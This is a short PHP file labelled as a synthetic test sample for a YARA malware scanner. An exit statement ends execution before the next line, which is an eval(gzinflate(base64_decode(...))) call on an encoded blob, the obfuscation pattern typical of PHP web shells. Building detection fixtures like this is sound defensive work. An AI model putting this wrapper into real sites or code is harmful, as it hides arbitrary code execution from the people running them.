<?php
// Vigil YARA test sample: synthetic; exit comes first, nothing below runs.
exit;
eval(gzinflate(base64_decode('S03OyFdQD8tMz8xRiHQMclQoSS0uUShOzC3ISbVSKMnILFbIycxLVcgsVijJSFUoz8jPSVUoSKzMyU9MUUjMS1HIz8upVCgoyswrKVbILClOzUnTU7fmAgA=')));
